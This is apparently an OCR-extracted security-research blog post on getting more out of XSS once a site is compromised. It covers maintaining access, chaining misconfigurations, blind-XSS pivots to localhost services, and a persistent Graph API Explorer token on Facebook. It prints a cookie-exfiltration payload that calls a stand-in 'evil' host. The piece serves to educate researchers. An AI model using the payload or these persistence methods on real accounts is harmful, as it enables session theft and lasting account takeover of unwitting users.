10:55 PM

Today, we are the big bad wolf. We have malicious intents. As we should, right? It is commonly believed in our community we need to think like an attacker to effectively be security researchers; the kind of situation where to be one, you must be the other as well.

Understanding what an application does and how it does it always gives you a broader attack surface. If you know how to abuse them properly, understanding features and how they work may even give you privileges far more dangerous than those which you get from XSS. I'll explain what I mean by that later.If you have malicious intents, what exactly happens immediately after you compromise a target through a client side attack? What’s the worst you can do; how fast can you perform sensitive actions and how long can you keep doing it right after you compromise a target? I'll be using the big boy that has state of the art security to mitigate client-side attacks, Facebook, as an example. I do hope you enjoy the following read.

I still read write-ups about XSS that are limited in what they can do because the attack surface isn't clear enough for the security researchers who find them. Remember, you have a grey hat now, you are the big bad wolf. You don't want to just pop an alert, you want to movelaterally, you want to explore, you want to maintain access and you want to feel like you have a reliable root shell on the target in regards to what you can do.

Here is a typical XSS payload lots of security researchers and bug hunters still use:

<script>new Image(); x.location="https://evil/"+document.cookie</script>

That still is the example used to describe how bad XSS can get. steal de cookys. Does it do any harm? Maybe on weaker targets. Can we improve it? let's see.

On black box audits, you often encounter webapps:

  • without or bypassable and broken CSP,
  • without HTTPOnly attributes on sensitive cookies,
  • that don't require password to change email,
  • that got their own applications,
  • with various caching methods,
  • with oauth,
  • with third party extensions,
  • with session fixation,
  • with internal APIs,
  • with CRLF bugs,
  • that support service workers and appcache,
  • with login/out csrf,
  • without or with SAMEORIGIN XFO,
  • that run wordpress, or other easily code injectable platforms,
  • that don't require password when even changing passwords,
  • that run local services
  • that are integrated to native code like Electron

Now, these are all uninteresting, low priority, bugs and "features", but they are GOLD if you have something like XSS.If for instance you interact with a webapp that doesn't require a password to change email, you can use your XSS to change the email, reset the account with your new email and maintain access. But that's not all subtle and lateral. You want the big picture, you want to monitor privilege and then abuse it for maximum impact.


In terms of blind XSS vulnerabilities, there is an even bigger attack surface people often don't think about. Since its a blind XSS, you are most likely dealing with backend people, which means local environments, services, and potentially sensitive localhost permissions. In many cases, if you have a script to monitor all the ports and services of localhost, you can simply turn this into RCE. If they have Jenkins and other sensitive services running, that's easy loot. If they are authenticated with Wordpress, thats RCE. Remember at that point, they are an entry-point to their LAN Intranet. You could simply exploit a local router RCE vulnerability from a bXSS to get easy shells in the network.

Nowadays, secure websites widely implement a bunch of security best practices so your document.cookie attacks don't do you much. Even after defeating CSP, most sensitive and non-sensitive cookies are marked with flags such as secure,HTTPOnly and recently SameSite flag attributes minimizing your ability to hijack sessions and maintain access.

For those who don't know, if a cookie has HTTPOnly flags it means the cookie cannot be accessed through client side scripts so even if you have an XSS, you can't just send the cookies to wherever you want.

Example, XSS on Facebook

Assume you have an XSS on Facebook, but most sensitive actions require a password, sometimes mouse gesture, and you can't just steal the cookies. It seems what you can do with your script may not be much to maintain access and turn into a complete account takeover. Luckily Facebooksupports OAuth applications (one example above) and lets you create your own apps and also debug your apps.

Facebook have developer profiles letting you create applications that can request access through OAuth, but that'd require passwords and SOP access at -- It is doable but there are easier methods. For instance, one can generate an all profile-scoped token through the Graph API Explorer, and use that token to always query to read & write to the user profile.Why Graph API Explorer?

  • You don't need to verify a developer profile.
  • It is a public application.
  • It has been shown to be owned by Facebook (trust+).
  • The scope is not limited.

... And there we have it ladies and gents, while we may not have the cookie, we still can get an almost invisible access to an application we can query full read/write privileges as the user. Even if user is paranoid or aware of an attacker’s presence, and changes the password, there lies our application and its token, untouched. We simply use an XSS payload that grants access toGraph API Explorer with all profile-scopes and use this token to move laterally.

When a user changes their email or current password, they are asked to sign out of all devices or to stay signed in. What they don't see is a prompt question of which of their integrated applications to revoke access to. Facebook responded about this saying they won't be changing that anytime soon.


Cross site scripting still is one of the most widespread and common vulnerability types in web applications today. It can be found in many forms and I believe it still will be a problem in the coming years. The bugs and features I mentioned above are nothing more than misconfigurations in systems, almost always empowering client-side attacks to do more.

I believe there is a lot that can be researched on this; regarding maintaining access on web-applications. I strongly agree such research results maybe useful for future forensic intrusiondetection improvements.

I would like to thank @filedescriptor and@luffy_lover for proof-reading this.